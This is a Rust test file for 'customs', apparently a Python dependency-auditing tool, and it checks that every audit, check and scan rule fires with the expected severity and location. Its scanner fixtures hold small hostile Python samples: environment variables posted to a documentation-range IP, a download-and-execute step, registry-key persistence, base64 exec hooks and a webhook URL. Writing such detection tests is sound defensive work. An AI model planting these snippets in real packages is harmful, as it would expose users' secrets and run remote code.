//! The rule matrix: every rule `customs rules` lists has a small input that
//! triggers it, run end to end through each command where the rule applies
//! (`audit` of a lockfile against the local test index, `check`, `scan`),
//! asserting the rule id, the severity and the location in the JSON report.
//! `every_rule_has_a_case` fails when a rule is added without one.

use std::io::Write;
use std::path::{Path, PathBuf};

use crate::common::{customs, json, run, sha256_hex, shared, targz_bytes as targz};
use crate::server::{Reply, Server};

const AS_OF: &str = "2026-09-18T00:00:00Z";

/// The commands a rule can come from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Via {
    Audit,
    Check,
    Scan,
}

/// One expected finding: where it is reported.
struct Expect {
    via: Via,
    severity: &'static str,
    /// `location.file` (as reported: relative to the run's directory).
    file: &'static str,
    /// `location.line` (`None`: no line, as for `scan`).
    line: Option<u64>,
    /// `location.path`: the member of the archive, when the rule is about one.
    member: Option<&'static str>,
}

/// A case: the rule, and a function that runs it and returns (expectation, report, stderr) per command.
struct Case {
    rule: &'static str,
    run: fn() -> Vec<(Expect, serde_json::Value, String)>,
}

const CASES: &[Case] = &[
    Case {
        rule: "unpinned-requirement",
        run: unpinned,
    },
    Case {
        rule: "cooldown",
        run: cooldown,
    },
    Case {
        rule: "upload-time-unknown",
        run: upload_time_unknown,
    },
    Case {
        rule: "yanked",
        run: yanked,
    },
    Case {
        rule: "release-missing",
        run: release_missing,
    },
    Case {
        rule: "hash-mismatch",
        run: hash_mismatch,
    },
    Case {
        rule: "repointed-pin",
        run: repointed_pin,
    },
    Case {
        rule: "record-mismatch",
        run: record_mismatch,
    },
    Case {
        rule: "unowned-file",
        run: unowned_file,
    },
    Case {
        rule: "project-status",
        run: project_status,
    },
    Case {
        rule: "known-malware",
        run: known_malware,
    },
    Case {
        rule: "vulnerability",
        run: vulnerability,
    },
    Case {
        rule: "index-unavailable",
        run: index_unavailable,
    },
    Case {
        rule: "typosquat",
        run: typosquat,
    },
    Case {
        rule: "unclaimed-name",
        run: unclaimed,
    },
    Case {
        rule: "new-project",
        run: new_project,
    },
    Case {
        rule: "provenance-missing",
        run: provenance_missing,
    },
    Case {
        rule: "provenance-regressed",
        run: provenance_regressed,
    },
    Case {
        rule: "publisher-changed",
        run: publisher_changed,
    },
    Case {
        rule: "provenance-invalid",
        run: provenance_invalid,
    },
    Case {
        rule: "exfiltration",
        run: exfiltration,
    },
    Case {
        rule: "pth-startup-hook",
        run: pth_startup_hook,
    },
    Case {
        rule: "install-hook",
        run: install_hook,
    },
    Case {
        rule: "obfuscated-exec",
        run: obfuscated_exec,
    },
    Case {
        rule: "download-exec",
        run: download_exec,
    },
    Case {
        rule: "persistence",
        run: persistence,
    },
    Case {
        rule: "suspicious-endpoint",
        run: suspicious_endpoint,
    },
    Case {
        rule: "binary-payload",
        run: binary_payload,
    },
    Case {
        rule: "archive-anomaly",
        run: archive_anomaly,
    },
    Case {
        rule: "allow-expired",
        run: allow_expired,
    },
    Case {
        rule: "allow-unused",
        run: allow_unused,
    },
];

#[test]
fn every_rule_has_a_case() {
    let tmp = tempfile::tempdir().unwrap();
    let (code, out, err) = run(customs(tmp.path()).arg("rules"));
    assert_eq!(code, 0, "{err}");
    let listed: Vec<&str> = out
        .lines()
        .take_while(|l| !l.trim().is_empty())
        .filter_map(|l| l.split_whitespace().next())
        .collect();
    assert!(listed.len() >= 25, "{out}");
    let covered: Vec<&str> = CASES.iter().map(|c| c.rule).collect();
    let missing: Vec<&&str> = listed.iter().filter(|r| !covered.contains(r)).collect();
    assert!(
        missing.is_empty(),
        "rules with no end-to-end case in tests/it/rules.rs: {missing:?}"
    );
    let unknown: Vec<&&str> = covered.iter().filter(|r| !listed.contains(r)).collect();
    assert!(
        unknown.is_empty(),
        "cases for rules that do not exist: {unknown:?}"
    );
}

#[test]
fn every_rule_fires_end_to_end_with_its_severity_and_location() {
    let mut failures = Vec::new();
    let mut skipped = Vec::new();
    for case in CASES {
        let results = (case.run)();
        if results.is_empty() {
            skipped.push(case.rule);
            continue;
        }
        for (expect, report, err) in results {
            if let Err(why) = check(case.rule, &expect, &report) {
                failures.push(format!(
                    "{} via {:?}: {why}\n  stderr: {}",
                    case.rule,
                    expect.via,
                    err.trim()
                ));
            }
        }
    }
    if !skipped.is_empty() {
        eprintln!("skipped (they need ../shared's real provenance objects): {skipped:?}");
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

fn check(rule: &str, expect: &Expect, report: &serde_json::Value) -> Result<(), String> {
    let findings = report["findings"]
        .as_array()
        .ok_or_else(|| format!("no findings array in {report}"))?;
    let of_rule: Vec<&serde_json::Value> = findings.iter().filter(|f| f["rule"] == rule).collect();
    let matches = |f: &&serde_json::Value| {
        let loc = &f["location"];
        f["severity"] == expect.severity
            && loc["file"].as_str() == Some(expect.file)
            && loc["line"].as_u64() == expect.line
            && loc["path"].as_str() == expect.member
    };
    if of_rule.iter().any(matches) {
        Ok(())
    } else {
        let got: Vec<String> = of_rule
            .iter()
            .map(|f| {
                format!(
                    "{} at {} line {} member {}",
                    f["severity"],
                    f["location"]["file"],
                    f["location"]["line"],
                    f["location"]["path"]
                )
            })
            .collect();
        Err(format!(
            "expected {} at {} line {:?} member {:?}; got {got:?} (all rules: {:?})",
            expect.severity,
            expect.file,
            expect.line,
            expect.member,
            findings
                .iter()
                .map(|f| f["rule"].clone())
                .collect::<Vec<_>>()
        ))
    }
}

// ---- running the commands ----

/// `customs audit` of `requirements.txt` (written into a fresh directory)
/// against `server` (or offline when `None`).
fn audit_reqs(
    server: Option<&Server>,
    requirements: &str,
    extra: &[&str],
) -> (serde_json::Value, String) {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(tmp.path().join("requirements.txt"), requirements).unwrap();
    audit_in(tmp.path(), server, extra, "requirements.txt")
}

fn audit_in(
    dir: &Path,
    server: Option<&Server>,
    extra: &[&str],
    file: &str,
) -> (serde_json::Value, String) {
    let mut cmd = customs(dir);
    cmd.args(["audit", "--format", "json", "--as-of", AS_OF]);
    if !extra.contains(&"--timeout") {
        cmd.args(["--timeout", "5"]);
    }
    match server {
        Some(s) => cmd.args(["--index-url", &s.index_url()]),
        None => cmd.arg("--offline"),
    };
    if extra.contains(&"--advisory-db") {
        cmd.env_remove("CUSTOMS_NO_ADVISORIES");
    }
    cmd.args(extra).arg(file);
    let (code, out, err) = run(&mut cmd);
    assert!(code == 0 || code == 1, "audit exit {code}: {err}\n{out}");
    (json(&out), err)
}

fn check_names(server: Option<&Server>, names: &[&str]) -> (serde_json::Value, String) {
    let tmp = tempfile::tempdir().unwrap();
    let mut cmd = customs(tmp.path());
    cmd.args([
        "check",
        "--format",
        "json",
        "--as-of",
        AS_OF,
        "--timeout",
        "5",
    ]);
    match server {
        Some(s) => cmd.args(["--index-url", &s.index_url()]),
        None => cmd.arg("--offline"),
    };
    let (code, out, err) = run(cmd.args(names));
    assert!(code == 0 || code == 1, "check exit {code}: {err}\n{out}");
    (json(&out), err)
}

fn scan_file(path: &Path) -> (serde_json::Value, String) {
    let (code, out, err) = run(customs(path.parent().unwrap()).args([
        "scan",
        "--format",
        "json",
        path.file_name().unwrap().to_str().unwrap(),
    ]));
    assert!(code == 0 || code == 1, "scan exit {code}: {err}\n{out}");
    (json(&out), err)
}

fn at(via: Via, severity: &'static str, file: &'static str, line: Option<u64>) -> Expect {
    Expect {
        via,
        severity,
        file,
        line,
        member: None,
    }
}

// ---- the index ----

/// One file of a release on the test index.
struct File {
    filename: String,
    bytes: Vec<u8>,
}

/// Serves a project's JSON document: `(version, upload time, files)` per
/// release, `status` as its project status; files under `/files/`.
fn serve(
    server: &Server,
    name: &str,
    releases: &[(&str, Option<&str>, Vec<File>)],
    status: Option<&str>,
) {
    let mut map = serde_json::Map::new();
    for (version, uploaded, files) in releases {
        let entries: Vec<serde_json::Value> = files
            .iter()
            .map(|f| {
                server.route(
                    &format!("/files/{}", f.filename),
                    vec![Reply::json(f.bytes.clone()).header("Content-Type", "application/octet-stream")],
                );
                let mut e = serde_json::json!({
                    "filename": f.filename,
                    "url": format!("/files/{}", f.filename),
                    "digests": {"sha256": sha256_hex(&f.bytes)},
                    "yanked": false,
                    "size": f.bytes.len(),
                    "packagetype": if f.filename.ends_with(".whl") { "bdist_wheel" } else { "sdist" },
                });
                if let Some(t) = uploaded {
                    e["upload_time_iso_8601"] = (*t).into();
                }
                e
            })
            .collect();
        map.insert((*version).into(), entries.into());
    }
    let mut info =
        serde_json::json!({"name": name, "project_urls": {"Source": "https://git.example/x"}});
    if let Some(s) = status {
        info["project-status"] = serde_json::json!({"status": s});
    }
    let doc = serde_json::json!({"info": info, "releases": map});
    server.route(
        &format!("/pypi/{name}/json"),
        vec![Reply::json(doc.to_string())],
    );
}

/// An old, established history (so `new-project` stays quiet) plus `1.0`.
fn history(files: Vec<File>) -> Vec<(&'static str, Option<&'static str>, Vec<File>)> {
    let mut out: Vec<(&str, Option<&str>, Vec<File>)> = [
        ("0.1", "2019-01-01T00:00:00Z"),
        ("0.2", "2019-06-01T00:00:00Z"),
        ("0.3", "2020-01-01T00:00:00Z"),
        ("0.4", "2021-01-01T00:00:00Z"),
        ("0.5", "2022-01-01T00:00:00Z"),
    ]
    .into_iter()
    .map(|(v, t)| (v, Some(t), Vec::new()))
    .collect();
    out.push(("1.0", Some("2023-01-01T00:00:00Z"), files));
    out
}

// ---- archives ----

const SETUP: &[u8] = b"from setuptools import setup\nsetup(name='x')\n";

/// A scan rule: the sdist `name-1.0.tar.gz` with `files` (paths below
/// `name-1.0/`), scanned with `customs scan` and audited from the test index.
fn archive_case(
    name: &'static str,
    files: &[(&str, &[u8])],
    severity: &'static str,
    member: &'static str,
) -> Vec<(Expect, serde_json::Value, String)> {
    let filename = format!("{name}-1.0.tar.gz");
    let owned: Vec<(String, &[u8])> = files
        .iter()
        .map(|(p, d)| (format!("{name}-1.0/{p}"), *d))
        .collect();
    let refs: Vec<(&str, &[u8])> = owned.iter().map(|(p, d)| (p.as_str(), *d)).collect();
    let bytes = targz(&refs);
    let tmp = tempfile::tempdir().unwrap();
    let path: PathBuf = tmp.path().join(&filename);
    std::fs::File::create(&path)
        .unwrap()
        .write_all(&bytes)
        .unwrap();
    let (scanned, scan_err) = scan_file(&path);
    let server = Server::start();
    serve(
        &server,
        name,
        &history(vec![File {
            filename: filename.clone(),
            bytes,
        }]),
        None,
    );
    let (audited, audit_err) = audit_reqs(
        Some(&server),
        &format!("six==1.16.0\n{name}==1.0\n"),
        &["--no-provenance"],
    );
    let file: &'static str = Box::leak(filename.into_boxed_str());
    vec![
        (
            Expect {
                member: Some(member),
                ..at(Via::Scan, severity, file, None)
            },
            scanned,
            scan_err,
        ),
        (
            Expect {
                member: Some(member),
                ..at(Via::Audit, severity, "requirements.txt", Some(2))
            },
            audited,
            audit_err,
        ),
    ]
}

// ---- the cases ----

fn unpinned() -> Vec<(Expect, serde_json::Value, String)> {
    let (r, e) = audit_reqs(None, "six==1.16.0\nrequests>=2\n", &["--no-scan"]);
    vec![(at(Via::Audit, "medium", "requirements.txt", Some(2)), r, e)]
}

fn recorded(projects: &[&str]) -> Server {
    let server = Server::start();
    for p in projects {
        server.project(p);
    }
    server
}

fn cooldown() -> Vec<(Expect, serde_json::Value, String)> {
    let server = recorded(&["six", "urllib3"]);
    let (r, e) = audit_reqs(
        Some(&server),
        "six==1.16.0\nurllib3==2.8.0\n",
        &["--no-scan", "--no-provenance", "--cooldown", "7 days"],
    );
    let (c, ce) = check_names(Some(&server), &["urllib3==2.8.0"]);
    vec![
        (at(Via::Audit, "high", "requirements.txt", Some(2)), r, e),
        (at(Via::Check, "high", "<command line>", Some(1)), c, ce),
    ]
}

fn upload_time_unknown() -> Vec<(Expect, serde_json::Value, String)> {
    let server = recorded(&["six"]);
    let file = File {
        filename: "timeless-1.0.tar.gz".into(),
        bytes: b"x".to_vec(),
    };
    let mut releases = history(Vec::new());
    releases.pop();
    releases.push(("1.0", None, vec![file]));
    serve(&server, "timeless", &releases, None);
    let (r, e) = audit_reqs(
        Some(&server),
        "six==1.16.0\ntimeless==1.0\n",
        &["--no-scan", "--no-provenance"],
    );
    let (c, ce) = check_names(Some(&server), &["timeless==1.0"]);
    vec![
        (at(Via::Audit, "medium", "requirements.txt", Some(2)), r, e),
        (at(Via::Check, "medium", "<command line>", Some(1)), c, ce),
    ]
}

fn yanked() -> Vec<(Expect, serde_json::Value, String)> {
    let server = recorded(&["six", "requests"]);
    let (r, e) = audit_reqs(
        Some(&server),
        "six==1.16.0\nrequests==2.32.0\n",
        &["--no-scan", "--no-provenance"],
    );
    let (c, ce) = check_names(Some(&server), &["six", "requests==2.32.0"]);
    vec![
        (at(Via::Audit, "high", "requirements.txt", Some(2)), r, e),
        (at(Via::Check, "high", "<command line>", Some(2)), c, ce),
    ]
}

/// `audit` and `check` of `requirement` (the second line after six) with
/// the advisory database of `records`.
fn advisory_case(
    records: &[(&str, &str)],
    requirement: &str,
    severity: &'static str,
) -> Vec<(Expect, serde_json::Value, String)> {
    let server = recorded(&["six", "sampleproject"]);
    let url = crate::advisories::serve_export(&server, records);
    let extra = ["--no-scan", "--no-provenance", "--advisory-db", &url];
    let (r, e) = audit_reqs(
        Some(&server),
        &format!("six==1.16.0\n{requirement}\n"),
        &extra,
    );
    let tmp = tempfile::tempdir().unwrap();
    let (code, out, err) = run(customs(tmp.path())
        .env_remove("CUSTOMS_NO_ADVISORIES")
        .args([
            "check",
            "--format",
            "json",
            "--as-of",
            AS_OF,
            "--timeout",
            "5",
        ])
        .args(["--index-url", &server.index_url()])
        .args(extra)
        .args(["six", requirement]));
    assert!(code == 0 || code == 1, "check exit {code}: {err}\n{out}");
    vec![
        (at(Via::Audit, severity, "requirements.txt", Some(2)), r, e),
        (
            at(Via::Check, severity, "<command line>", Some(2)),
            json(&out),
            err,
        ),
    ]
}

fn known_malware() -> Vec<(Expect, serde_json::Value, String)> {
    advisory_case(
        &[(
            "MAL-2026-5.json",
            r#"{"id": "MAL-2026-5", "summary": "Malicious code in sampleproject (test record)",
                "affected": [{"package": {"ecosystem": "PyPI", "name": "sampleproject"}, "versions": ["4.0.0"]}]}"#,
        )],
        "sampleproject==4.0.0",
        "critical",
    )
}

fn vulnerability() -> Vec<(Expect, serde_json::Value, String)> {
    advisory_case(
        &[(
            "PYSEC-2026-5.json",
            r#"{"id": "PYSEC-2026-5", "summary": "A flaw (test record)",
                "affected": [{"package": {"ecosystem": "PyPI", "name": "sampleproject"},
                  "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "4.0.1"}]}]}],
                "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N"}]}"#,
        )],
        "sampleproject==4.0.0",
        "high",
    )
}

fn release_missing() -> Vec<(Expect, serde_json::Value, String)> {
    let server = recorded(&["six", "attrs"]);
    let (r, e) = audit_reqs(
        Some(&server),
        "six==1.16.0\nattrs==99.0.0\n",
        &["--no-scan", "--no-provenance"],
    );
    let (c, ce) = check_names(Some(&server), &["attrs==99.0.0"]);
    vec![
        (at(Via::Audit, "high", "requirements.txt", Some(2)), r, e),
        (at(Via::Check, "high", "<command line>", Some(1)), c, ce),
    ]
}

fn hash_mismatch() -> Vec<(Expect, serde_json::Value, String)> {
    let server = recorded(&["six"]);
    let (r, e) = audit_reqs(
        Some(&server),
        &format!("# pinned\nsix==1.16.0 --hash=sha256:{}\n", "0".repeat(64)),
        &["--no-scan", "--no-provenance"],
    );
    vec![(
        at(Via::Audit, "critical", "requirements.txt", Some(2)),
        r,
        e,
    )]
}

fn repointed_pin() -> Vec<(Expect, serde_json::Value, String)> {
    if !crate::diff::has_git() {
        return Vec::new();
    }
    let tmp = tempfile::tempdir().unwrap();
    crate::diff::repository(tmp.path());
    let (_, out, err) = run(customs(tmp.path()).args([
        "audit",
        "--offline",
        "--no-scan",
        "--no-provenance",
        "--diff-base",
        "HEAD~1",
        "--format",
        "json",
        "uv.lock",
    ]));
    vec![(
        at(Via::Audit, "critical", "uv.lock", Some(5)),
        json(&out),
        err,
    )]
}

/// `audit --env` of the test environment (see `tests/it/env.rs`).
fn audit_env() -> (serde_json::Value, String) {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("venv");
    std::fs::create_dir_all(&root).unwrap();
    crate::env::environment(&root);
    let (_, out, err) =
        run(customs(tmp.path()).args(["audit", "--offline", "--format", "json", "--env", "venv"]));
    (json(&out), err)
}

fn record_mismatch() -> Vec<(Expect, serde_json::Value, String)> {
    let (r, e) = audit_env();
    vec![(
        at(Via::Audit, "high", "site-packages/honest/util.py", None),
        r,
        e,
    )]
}

fn unowned_file() -> Vec<(Expect, serde_json::Value, String)> {
    let (r, e) = audit_env();
    vec![(
        at(Via::Audit, "medium", "site-packages/zz_telemetry.pth", None),
        r,
        e,
    )]
}

fn project_status() -> Vec<(Expect, serde_json::Value, String)> {
    let server = recorded(&["six"]);
    serve(
        &server,
        "retired",
        &history(vec![File {
            filename: "retired-1.0.tar.gz".into(),
            bytes: b"x".to_vec(),
        }]),
        Some("archived"),
    );
    let (r, e) = audit_reqs(
        Some(&server),
        "six==1.16.0\nretired==1.0\n",
        &["--no-scan", "--no-provenance"],
    );
    let (c, ce) = check_names(Some(&server), &["retired"]);
    vec![
        (at(Via::Audit, "medium", "requirements.txt", Some(2)), r, e),
        (at(Via::Check, "medium", "<command line>", Some(1)), c, ce),
    ]
}

fn index_unavailable() -> Vec<(Expect, serde_json::Value, String)> {
    let server = recorded(&["six"]);
    server.route("/pypi/flaky/json", vec![Reply::status(500); 8]);
    let (r, e) = audit_reqs(
        Some(&server),
        "six==1.16.0\nflaky==1.0\n",
        &["--no-scan", "--no-provenance", "--timeout", "1"],
    );
    let (o, oe) = audit_reqs(None, "six==1.16.0\n", &["--no-scan"]);
    let (c, ce) = check_names(None, &["six==1.16.0"]);
    vec![
        (at(Via::Audit, "medium", "requirements.txt", Some(2)), r, e),
        (at(Via::Audit, "medium", "requirements.txt", Some(1)), o, oe),
        (at(Via::Check, "medium", "<command line>", Some(1)), c, ce),
    ]
}

fn typosquat() -> Vec<(Expect, serde_json::Value, String)> {
    let reqs = "six==1.16.0\nreqeusts==2.31.0\n";
    let (offline, oe) = audit_reqs(None, reqs, &["--no-scan"]);
    let server = recorded(&["six"]);
    let (online, e) = audit_reqs(Some(&server), reqs, &["--no-scan", "--no-provenance"]);
    let (c, ce) = check_names(None, &["reqeusts"]);
    vec![
        (
            at(Via::Audit, "high", "requirements.txt", Some(2)),
            offline,
            oe,
        ),
        (
            at(Via::Audit, "high", "requirements.txt", Some(2)),
            online,
            e,
        ),
        (at(Via::Check, "high", "<command line>", Some(1)), c, ce),
    ]
}

fn unclaimed() -> Vec<(Expect, serde_json::Value, String)> {
    let server = recorded(&["six"]);
    let (r, e) = audit_reqs(
        Some(&server),
        "six==1.16.0\nno-such-package-a==1.0\n",
        &["--no-scan", "--no-provenance"],
    );
    let (c, ce) = check_names(Some(&server), &["no-such-package-a"]);
    vec![
        (
            at(Via::Audit, "critical", "requirements.txt", Some(2)),
            r,
            e,
        ),
        (at(Via::Check, "critical", "<command line>", Some(1)), c, ce),
    ]
}

fn new_project() -> Vec<(Expect, serde_json::Value, String)> {
    let server = recorded(&["six"]);
    serve(
        &server,
        "fresh",
        &[(
            "1.0",
            Some("2026-09-10T00:00:00Z"),
            vec![File {
                filename: "fresh-1.0.tar.gz".into(),
                bytes: b"x".to_vec(),
            }],
        )],
        None,
    );
    let (r, e) = audit_reqs(
        Some(&server),
        "six==1.16.0\nfresh==1.0\n",
        &["--no-scan", "--no-provenance"],
    );
    let (c, ce) = check_names(Some(&server), &["fresh"]);
    vec![
        (at(Via::Audit, "medium", "requirements.txt", Some(2)), r, e),
        (at(Via::Check, "medium", "<command line>", Some(1)), c, ce),
    ]
}

/// A one-release project with a Simple API page (api 1.4) that lists no provenance.
fn unattested(server: &Server, name: &str) {
    let file = File {
        filename: format!("{name}-1.0.tar.gz"),
        bytes: b"x".to_vec(),
    };
    let sha = sha256_hex(&file.bytes);
    serve(server, name, &history(vec![file]), None);
    let simple = serde_json::json!({
        "meta": {"api-version": "1.4", "_last-serial": 1},
        "name": name,
        "files": [{
            "filename": format!("{name}-1.0.tar.gz"),
            "url": format!("/files/{name}-1.0.tar.gz"),
            "hashes": {"sha256": sha},
            "upload-time": "2023-01-01T00:00:00Z",
            "provenance": null,
        }],
        "versions": ["1.0"],
    });
    server.route(
        &format!("/simple/{name}/"),
        vec![
            Reply::json(simple.to_string())
                .header("Content-Type", "application/vnd.pypi.simple.v1+json"),
        ],
    );
}

fn provenance_missing() -> Vec<(Expect, serde_json::Value, String)> {
    let server = recorded(&["six"]);
    unattested(&server, "unsigned");
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(
        tmp.path().join("requirements.txt"),
        "six==1.16.0\nunsigned==1.0\n",
    )
    .unwrap();
    std::fs::write(
        tmp.path().join("customs.toml"),
        "require-attestations = [\"unsigned\"]\n",
    )
    .unwrap();
    let (r, e) = audit_in(
        tmp.path(),
        Some(&server),
        &["--no-scan", "--config", "customs.toml"],
        "requirements.txt",
    );
    vec![(at(Via::Audit, "high", "requirements.txt", Some(2)), r, e)]
}

fn provenance_regressed() -> Vec<(Expect, serde_json::Value, String)> {
    let (r, e) = crate::provenance::regressed_report("six==1.16.0\nsampleproject==4.0.1");
    vec![(at(Via::Audit, "high", "requirements.txt", Some(2)), r, e)]
}

fn publisher_changed() -> Vec<(Expect, serde_json::Value, String)> {
    if shared().is_none() {
        return Vec::new();
    }
    let (r, e) = crate::provenance::publisher_changed_report("six==1.16.0\nsampleproject==4.0.1")
        .expect("../shared is here, so its provenance fixtures must be too");
    vec![(at(Via::Audit, "high", "requirements.txt", Some(2)), r, e)]
}

fn provenance_invalid() -> Vec<(Expect, serde_json::Value, String)> {
    if shared().is_none() {
        return Vec::new();
    }
    let (r, e) =
        crate::provenance::invalid_report("six==1.16.0\nsampleproject==4.0.0 --hash=sha256:")
            .expect("../shared is here, so its provenance fixtures must be too");
    vec![(
        at(Via::Audit, "critical", "requirements.txt", Some(2)),
        r,
        e,
    )]
}

const ENV_TO_IP: &[u8] = b"import os, json, urllib.request\nurllib.request.urlopen('http://203.0.113.7/c', data=json.dumps(dict(os.environ)).encode())\n";

fn exfiltration() -> Vec<(Expect, serde_json::Value, String)> {
    archive_case(
        "exfil",
        &[("setup.py", SETUP), ("exfil/__init__.py", ENV_TO_IP)],
        "critical",
        "exfil-1.0/exfil/__init__.py",
    )
}

fn pth_startup_hook() -> Vec<(Expect, serde_json::Value, String)> {
    archive_case(
        "starter",
        &[
            ("setup.py", SETUP),
            (
                "starter.pth",
                b"import base64; exec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n",
            ),
        ],
        "critical",
        "starter-1.0/starter.pth",
    )
}

fn install_hook() -> Vec<(Expect, serde_json::Value, String)> {
    archive_case(
        "hooked",
        &[(
            "setup.py",
            b"import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://telemetry.example/install')\nsetup(name='hooked')\n",
        )],
        "medium",
        "hooked-1.0/setup.py",
    )
}

fn obfuscated_exec() -> Vec<(Expect, serde_json::Value, String)> {
    archive_case(
        "hidden",
        &[
            ("setup.py", SETUP),
            (
                "hidden/__init__.py",
                b"import base64\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n",
            ),
        ],
        "critical",
        "hidden-1.0/hidden/__init__.py",
    )
}

fn download_exec() -> Vec<(Expect, serde_json::Value, String)> {
    archive_case(
        "fetcher",
        &[
            ("setup.py", SETUP),
            (
                "fetcher/__init__.py",
                b"import os, urllib.request\nurllib.request.urlretrieve('http://203.0.113.7/x', '/tmp/x')\nos.chmod('/tmp/x', 0o755)\nos.system('/tmp/x')\n",
            ),
        ],
        "critical",
        "fetcher-1.0/fetcher/__init__.py",
    )
}

fn persistence() -> Vec<(Expect, serde_json::Value, String)> {
    archive_case(
        "stay",
        &[
            ("setup.py", SETUP),
            (
                "stay/__init__.py",
                b"import subprocess\nsubprocess.Popen('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v upd /d upd.exe')\n",
            ),
        ],
        "critical",
        "stay-1.0/stay/__init__.py",
    )
}

fn suspicious_endpoint() -> Vec<(Expect, serde_json::Value, String)> {
    archive_case(
        "hooky",
        &[
            ("setup.py", SETUP),
            (
                "hooky/__init__.py",
                b"URL = 'https://discord.com/api/webhooks/1234567890/abcdefABCDEF'\n",
            ),
        ],
        "high",
        "hooky-1.0/hooky/__init__.py",
    )
}

fn binary_payload() -> Vec<(Expect, serde_json::Value, String)> {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.extend_from_slice(&[0u8; 200]);
    let elf: &'static [u8] = Box::leak(elf.into_boxed_slice());
    archive_case(
        "carrier",
        &[("setup.py", SETUP), ("carrier/tool", elf)],
        "medium",
        "carrier-1.0/carrier/tool",
    )
}

fn archive_anomaly() -> Vec<(Expect, serde_json::Value, String)> {
    // A payload behind a member too large to read is a gap, never a pass:
    // here an unreadable nested archive.
    let inner = targz(&[("x/run.py", ENV_TO_IP)]);
    let cut: &'static [u8] = Box::leak(inner[..inner.len() / 2].to_vec().into_boxed_slice());
    archive_case(
        "nested",
        &[("setup.py", SETUP), ("vendor/blob.tar.gz", cut)],
        "medium",
        "nested-1.0/vendor/blob.tar.gz",
    )
}

fn policy_config(dir: &Path, entries: &str) {
    std::fs::write(dir.join("customs.toml"), entries).unwrap();
}

fn allow_expired() -> Vec<(Expect, serde_json::Value, String)> {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(tmp.path().join("requirements.txt"), "six>=1\n").unwrap();
    policy_config(
        tmp.path(),
        "[[allow]]\nrule = \"unpinned-requirement\"\npackage = \"six\"\nreason = \"old exception\"\nexpires = \"2026-01-31\"\n",
    );
    let (r, e) = audit_in(
        tmp.path(),
        None,
        &["--no-scan", "--config", "customs.toml"],
        "requirements.txt",
    );
    vec![(at(Via::Audit, "medium", "customs.toml", Some(1)), r, e)]
}

fn allow_unused() -> Vec<(Expect, serde_json::Value, String)> {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(tmp.path().join("requirements.txt"), "six==1.16.0\n").unwrap();
    policy_config(
        tmp.path(),
        "# exceptions\n[[allow]]\nrule = \"unpinned-requirement\"\npackage = \"left-behind\"\nreason = \"no longer used\"\nexpires = \"2027-01-31\"\n",
    );
    let (r, e) = audit_in(
        tmp.path(),
        None,
        &["--no-scan", "--config", "customs.toml"],
        "requirements.txt",
    );
    vec![(at(Via::Audit, "low", "customs.toml", Some(2)), r, e)]
}

#[test]
fn a_locked_typosquat_is_reported_at_its_line_in_every_format() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(
        tmp.path().join("requirements.txt"),
        "six==1.16.0\nreqeusts==2.31.0\n",
    )
    .unwrap();
    let out = |format: &str| {
        let (code, out, err) = run(customs(tmp.path()).args([
            "audit",
            "--offline",
            "--no-scan",
            "--format",
            format,
            "requirements.txt",
        ]));
        assert_eq!(code, 1, "{err}\n{out}");
        out
    };
    let table = out("table");
    assert!(
        table
            .lines()
            .any(|l| l.contains("typosquat") && l.contains("requirements.txt:2")),
        "{table}"
    );
    let sarif = json(&out("sarif"));
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let squat = results
        .iter()
        .find(|r| r["ruleId"] == "typosquat")
        .unwrap_or_else(|| panic!("{sarif}"));
    let loc = &squat["locations"][0]["physicalLocation"];
    assert_eq!(loc["artifactLocation"]["uri"], "requirements.txt");
    assert_eq!(loc["region"]["startLine"], 2);
    let github = out("github");
    assert!(
        github
            .lines()
            .any(|l| l.starts_with("::error") && l.contains("line=2") && l.contains("typosquat")),
        "{github}"
    );
}
